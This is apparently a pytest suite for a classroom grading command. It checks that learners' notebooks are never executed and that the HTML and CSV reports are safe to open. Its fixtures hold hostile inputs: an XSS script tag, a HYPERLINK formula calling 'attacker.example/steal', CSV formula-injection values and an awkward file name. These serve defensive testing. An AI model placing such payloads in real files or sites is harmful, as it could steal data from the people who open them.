"""``ams-exercises grade``: a class of answer files and notebooks, graded without running them.

The class is written here: right, wrong and hostile answers, notebooks in both formats,
and files that cannot be read. Everything is checked through the command's own output
files (the CSVs a spreadsheet opens, the HTML page a browser opens).
"""

from __future__ import annotations

import csv
import json
import os
import pty
import re
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from trainer_helpers import CLI, run_cli

from ams_exercises.grader.keys import all_keys, key_for

PERMIT = key_for("environmental-permit")
SCRIPT = "<script>alert('xss')</script>"
FORMULA = '=HYPERLINK("http://attacker.example/steal","click me")'


def canonical(key, name):
    fk = key.fields[name]
    return (
        fk.canonical
        if name in ("strategic_customers", "operational_support", "stakeholders", "investors")
        else fk.canonical[0]
    )


def first_wrong(key, name):
    """A wrong phrasing the key recognises as another role, and that role."""
    wrong = next(w for w in key.fields[name].wrong if w.recognized_as)
    return wrong.answers[0], wrong.recognized_as


def notebook(cells: list[tuple[str, str]]) -> str:
    return json.dumps(
        {
            "cells": [
                {
                    "cell_type": kind,
                    "metadata": {},
                    "source": src,
                    **({"outputs": [], "execution_count": None} if kind == "code" else {}),
                }
                for kind, src in cells
            ],
            "metadata": {
                "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
            },
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    )


def right_answers(key) -> dict:
    return {name: canonical(key, name) for name in key.asks}


@pytest.fixture
def sentinel(tmp_path) -> Path:
    return tmp_path / "learner-code-ran.txt"


def make_class(root: Path, sentinel: Path) -> Path:
    """A class of learners' submissions in ``root/submissions``: right, wrong, hostile and
    unreadable files, notebooks whose code would write ``sentinel`` if it ever ran."""
    subs = root / "submissions"
    subs.mkdir()
    right = right_answers(PERMIT)
    wrong_primary, _role = first_wrong(PERMIT, "primary_customer")
    (subs / "ana.yaml").write_text(yaml.safe_dump({"exercise": PERMIT.id, **right}), "utf-8")
    # ben: a notebook whose code would write a file if it ever ran
    ben_calls = ", ".join(
        f"{k}={v!r}" for k, v in {**right, "primary_customer": wrong_primary}.items()
    )
    (subs / "ben.ipynb").write_text(
        notebook(
            [
                (
                    "markdown",
                    "# Ben's workbook\ncheck('environmental-permit', widget='in markdown')",
                ),
                (
                    "code",
                    f"open({str(sentinel)!r}, 'w').write('ran')\nfrom ams_exercises import check",
                ),
                (
                    "code",
                    "%time check('environmental-permit', widget='first try')\n"
                    f"check('environmental-permit', {ben_calls})",
                ),
                (
                    "code",
                    f"check('environmental-permit', widget=open({str(sentinel)!r}, 'w').write(''))",
                ),
            ]
        ),
        "utf-8",
    )
    # chloe: a folder with a MyST notebook and a YAML file holding a list of exercises
    (subs / "chloe").mkdir()
    (subs / "chloe" / "workbook.md").write_text(
        "---\njupytext:\n  text_representation:\n    format_name: myst\n---\n# Work\n\n"
        "```{code-cell} ipython3\n:tags: [remove-output]\n"
        f"check({PERMIT.id!r}, **{{'widget': 'x'}})\n```\n\n"
        "```{code-cell} ipython3\n"
        f"check({PERMIT.id!r}, widget={right['widget']!r},\n"
        f"      primary_customer={right['primary_customer']!r})\n```\n",
        "utf-8",
    )
    (subs / "chloe" / "more.yaml").write_text(
        yaml.safe_dump([{"exercise": "no-such-exercise", "widget": "x"}]), "utf-8"
    )
    (subs / "chloe" / ".ipynb_checkpoints").mkdir()
    (subs / "chloe" / ".ipynb_checkpoints" / "workbook-checkpoint.ipynb").write_text(
        "{bad", "utf-8"
    )
    # hostile answers, twice so they are among the most common wrong answers
    for name in ("eve", "mallory"):
        (subs / f"{name}.yaml").write_text(
            yaml.safe_dump(
                {
                    "exercise": PERMIT.id,
                    "widget": FORMULA,
                    "primary_customer": SCRIPT,
                    "investors": ["@SUM(A1:A9)", "+1-1"],
                }
            ),
            "utf-8",
        )
    (subs / "dan.ipynb").write_text("{ this is not JSON", "utf-8")
    (subs / "notes.txt").write_text("seating plan", "utf-8")
    (subs / "-formula-named=learner.yaml").write_text(
        yaml.safe_dump({"exercise": PERMIT.id, **right}), "utf-8"
    )
    return subs


@pytest.fixture
def class_dir(tmp_path, sentinel) -> Path:
    """A class of one's own, for a test that changes it or grades it in its own way."""
    return make_class(tmp_path, sentinel)


@dataclass
class GradedClass:
    done: subprocess.CompletedProcess
    report: Path
    submissions: Path
    sentinel: Path


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> GradedClass:
    """One class graded once, by the command in a real process, for every test that only
    reads the report it wrote."""
    root = tmp_path_factory.mktemp("class")
    sentinel = root / "learner-code-ran.txt"
    subs = make_class(root, sentinel)
    return GradedClass(grade(subs, root / "report"), root / "report", subs, sentinel)


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def grade(class_dir: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    return run_cli("grade", str(class_dir), "--out", str(out), *extra)


def test_gradebook_has_a_row_per_learner_and_a_column_per_exercise(graded):
    done = graded.done
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""  # no progress bar when standard error is not a terminal
    assert "Graded 7 learners on 1 exercise" in done.stdout
    rows = read_csv(graded.report / "gradebook.csv")
    by = {r["learner"]: r for r in rows}
    assert set(by) == {"ana", "ben", "chloe", "dan", "eve", "mallory", "'-formula-named=learner"}
    assert list(rows[0]) == [
        "learner",
        PERMIT.id,
        "total",
        "max",
        "course_max",
        "problems",
        "note",
    ]
    assert float(by["ana"][PERMIT.id]) == PERMIT.max_score == float(by["ana"]["total"])
    assert by["dan"][PERMIT.id] == "" and by["dan"]["problems"] == "1"
    # dan's only file could not be read: no score at all, never a zero
    assert (by["dan"]["total"], by["dan"]["max"], by["dan"]["note"]) == ("", "", "no readable work")
    course = sum(k.max_score for k in all_keys())
    assert all(r["course_max"] == str(course) for r in rows)
    # ben's last call counts: everything right but the primary customer
    assert (
        float(by["ben"][PERMIT.id]) == PERMIT.max_score - PERMIT.fields["primary_customer"].points
    )
    # chloe answered two fields of three
    expected = PERMIT.fields["widget"].points + PERMIT.fields["primary_customer"].points
    assert float(by["chloe"][PERMIT.id]) == expected
    assert all(r["max"] == str(PERMIT.max_score) for r in rows if r["learner"] != "dan")


def test_long_csv_has_each_answer_with_its_verdict_and_role(graded):
    rows = read_csv(graded.report / "answers.csv")
    assert list(rows[0]) == [
        "learner",
        "exercise",
        "field",
        "entry",
        "verdict",
        "recognized_as",
        "trap",
        "answer",
        "score",
        "max",
        "feedback",
        "source",
        "decided_by_trainer",
    ]
    ben = {r["field"]: r for r in rows if r["learner"] == "ben"}
    wrong, role = first_wrong(PERMIT, "primary_customer")
    assert ben["primary_customer"]["verdict"] == "incorrect"
    assert ben["primary_customer"]["recognized_as"] == role
    assert ben["primary_customer"]["answer"] == wrong
    assert "cell 3" in ben["primary_customer"]["source"]
    assert ben["primary_customer"]["max"] == str(PERMIT.fields["primary_customer"].points)
    assert ben["primary_customer"]["feedback"]  # what ben was told about it
    assert ben["widget"]["verdict"] == "correct" and ben["widget"]["feedback"]
    chloe = {r["field"]: r["verdict"] for r in rows if r["learner"] == "chloe"}
    assert chloe == {"widget": "correct", "primary_customer": "correct", "investors": "missing"}
    # the score column sums to each learner's total
    book = {
        r["learner"]: float(r["total"])
        for r in read_csv(graded.report / "gradebook.csv")
        if r["total"]
    }
    for learner, total in book.items():
        assert (
            sum(float(r["score"]) for r in rows if r["learner"] == learner and r["score"]) == total
        )


def test_unreadable_files_are_listed_with_their_reason_and_skipped(graded):
    done = graded.done
    assert done.returncode == 0
    errors = read_csv(graded.report / "errors.csv")
    reasons = {(e["learner"], Path(e["file"].split(" ")[0]).name): e["problem"] for e in errors}
    assert reasons[("dan", "dan.ipynb")].startswith("is not a valid notebook: bad JSON at line 1")
    assert reasons[("", "notes.txt")].startswith("is not an answer file or notebook")
    assert "'no-such-exercise' is not an exercise id" in reasons[("chloe", "more.yaml")]
    assert "hides the answers" in reasons[("chloe", "workbook.md")]
    assert "not written out as text" in reasons[("ben", "ben.ipynb")]
    assert not any("checkpoint" in e["file"] for e in errors)  # hidden folders are ignored
    html = (graded.report / "index.html").read_text("utf-8")
    assert "is not a valid notebook: bad JSON at line 1" in html


def test_learners_notebooks_are_never_executed(graded):
    assert graded.done.returncode == 0
    assert not graded.sentinel.exists()


def test_html_and_formulas_in_answers_are_shown_as_text_only(graded):
    report = graded.report
    html = (report / "index.html").read_text("utf-8")
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in html
    assert "=HYPERLINK(&#34;http://attacker.example" in html  # shown, as text
    assert not re.search(
        r"""(src|href)\s*=\s*["']?(https?:)?//""", html
    )  # nothing loaded from a host
    for path in report.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)
    answers = [r["answer"] for r in read_csv(report / "answers.csv") if r["learner"] == "eve"]
    assert "'" + FORMULA in answers and "'@SUM(A1:A9)" in answers and "'+1-1" in answers
    assert SCRIPT in answers  # kept as the learner wrote it, harmless in a CSV


def test_report_opens_from_disk_runs_nothing_and_loads_nothing(graded, browser):
    index = graded.report / "index.html"
    page = browser.new_page()
    dialogs, requests = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: requests.append(r.url))
    page.goto(index.as_uri())
    page.wait_for_load_state("load")
    assert dialogs == []
    assert page.locator("script").count() == 0
    assert {u.split(":")[0] for u in requests} <= {"file", "data"}
    assert page.locator("html").get_attribute("lang") == "en"
    images = page.locator("img")
    assert images.count() == 2
    for i in range(images.count()):
        alt = images.nth(i).get_attribute("alt")
        assert alt and len(alt) > 40
        assert images.nth(i).evaluate("img => img.complete && img.naturalWidth > 0")
    assert page.locator("th[scope=col]").count() > 10
    headings = page.locator("h2").all_inner_texts()
    assert headings[:8] == [
        "What to revisit in the next session",
        "Scores by exercise",
        "Role confusion",
        "Answers the grader could not place",
        "Answer groups and your decisions",
        "Most common wrong answers",
        "Item analysis: which questions work",
        "Gradebook",
    ]
    unplaced = page.locator("#unplaced ~ div table").first.inner_text()
    assert SCRIPT in unplaced  # the learner's answer is visible, as text, for the trainer
    page.close()


def test_an_existing_report_is_kept_without_force_and_replaced_with_it(class_dir, tmp_path):
    out = tmp_path / "report"
    assert grade(class_dir, out).returncode == 0
    before = (out / "gradebook.csv").read_bytes()
    (class_dir / "zoe.yaml").write_text(
        yaml.safe_dump({"exercise": PERMIT.id, **right_answers(PERMIT)}), "utf-8"
    )
    refused = grade(class_dir, out)
    assert refused.returncode == 2
    assert (
        refused.stderr.strip()
        == f"ams-exercises: {out}: already exists; add --force to replace the report in it"
    )
    assert (out / "gradebook.csv").read_bytes() == before
    forced = grade(class_dir, out, "--force")
    assert forced.returncode == 0, forced.stderr
    assert "zoe" in {r["learner"] for r in read_csv(out / "gradebook.csv")}
    assert [
        p.name for p in tmp_path.iterdir() if p.name.startswith(".")
    ] == []  # no temporary folders left


def test_force_never_replaces_a_folder_that_is_not_a_report(class_dir, tmp_path):
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "thesis.docx").write_text("years of work")
    done = grade(class_dir, precious, "--force")
    assert done.returncode == 2
    assert "holds files that are not part of a class report (thesis.docx)" in done.stderr
    assert (precious / "thesis.docx").read_text() == "years of work"
    # nor a report folder where the trainer has put files of their own
    report = tmp_path / "report"
    assert grade(class_dir, report).returncode == 0
    (report / "my-notes.txt").write_text("follow up with ben")
    done = grade(class_dir, report, "--force")
    assert done.returncode == 2 and "(my-notes.txt)" in done.stderr
    assert (report / "my-notes.txt").is_file() and (report / "gradebook.csv").is_file()


def test_report_inside_the_submissions_is_refused(class_dir):
    done = grade(class_dir, class_dir / "report")
    assert done.returncode == 2
    assert "submissions folder" in done.stderr
    assert not (class_dir / "report").exists()


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p: p / "missing", "no such folder"),
        (lambda p: (p / "empty").mkdir() or p / "empty", "holds no learners' files"),
        (
            lambda p: (p / "file.yaml").write_text("x: 1") and p / "file.yaml",
            "is a file; give the folder",
        ),
    ],
)
def test_bad_submissions_folder_is_one_line_and_exit_2(tmp_path, make, message):
    done = grade(make(tmp_path), tmp_path / "report")
    assert done.returncode == 2
    assert message in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "report").exists()


def test_progress_bar_only_on_a_terminal(class_dir, tmp_path):
    leader, follower = pty.openpty()
    try:
        done = subprocess.run(
            [*CLI, "grade", str(class_dir), "--out", str(tmp_path / "report")],
            stdout=subprocess.PIPE,
            stderr=follower,
            text=True,
            timeout=120,
            env={**os.environ, "COLUMNS": "100"},
        )
        os.close(follower)
        shown = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:
                break
            if not chunk:
                break
            shown += chunk
    finally:
        os.close(leader)
    assert done.returncode == 0
    assert b"Grading" in shown and b"7/7" in shown


@pytest.mark.parametrize(
    "files",
    [
        {"blank.yaml": "exercise: environmental-permit\nwidget: TODO\n"},  # nothing answered
        {"broken.ipynb": "{", "notes.md": "# just notes\n"},  # nothing readable
    ],
)
def test_a_class_with_nothing_to_grade_still_gets_a_report(tmp_path, files):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name, text in files.items():
        (subs / name).write_text(text, "utf-8")
    done = grade(subs, tmp_path / "report")
    assert done.returncode == 0, done.stderr
    html = (tmp_path / "report" / "index.html").read_text("utf-8")
    assert "Gradebook" in html
    learners = {r["learner"] for r in read_csv(tmp_path / "report" / "gradebook.csv")}
    assert learners == {Path(n).stem for n in files}


def test_report_meets_wcag_aa(graded, browser):
    from axe_playwright_python.sync_playwright import Axe

    context = browser.new_context(bypass_csp=True)  # axe-core is injected as a script
    page = context.new_page()
    page.goto((graded.report / "index.html").as_uri())
    tags = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]
    results = Axe().run(page, options={"runOnly": {"type": "tag", "values": tags}})
    context.close()
    assert results.violations_count == 0, results.generate_report()


def test_a_crash_while_writing_leaves_the_old_report_whole(class_dir, tmp_path, monkeypatch):
    from ams_exercises.classroom import csvfiles
    from ams_exercises.classroom.grade_class import grade_class
    from ams_exercises.classroom.report import write_report

    out = tmp_path / "report"
    assert grade(class_dir, out).returncode == 0
    before = {p.name: p.read_bytes() for p in out.rglob("*") if p.is_file()}

    def crash(*_args, **_kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(csvfiles, "write_answers", crash)
    with pytest.raises(OSError):
        write_report(grade_class(class_dir), out, class_dir, force=True)
    assert {p.name: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report", "submissions"]  # no leftovers


def test_an_old_exercise_id_in_files_and_notebooks_is_graded_under_its_new_id(tmp_path):
    """contractor-licence became contractor-license: a class's work under the old id counts."""
    new = key_for("contractor-license")
    subs = tmp_path / "submissions"
    subs.mkdir()
    right = right_answers(new)
    (subs / "ana.yaml").write_text(
        yaml.safe_dump({"exercise": "contractor-licence", **right}), "utf-8"
    )
    calls = ", ".join(f"{k}={v!r}" for k, v in right.items())
    (subs / "ben.ipynb").write_text(
        notebook([("code", f"check('contractor-licence', {calls})")]), "utf-8"
    )
    done = grade(subs, tmp_path / "report")
    assert done.returncode == 0, done.stderr
    rows = read_csv(tmp_path / "report" / "gradebook.csv")
    assert list(rows[0])[1] == new.id
    assert [float(r[new.id]) for r in rows] == [new.max_score, new.max_score]
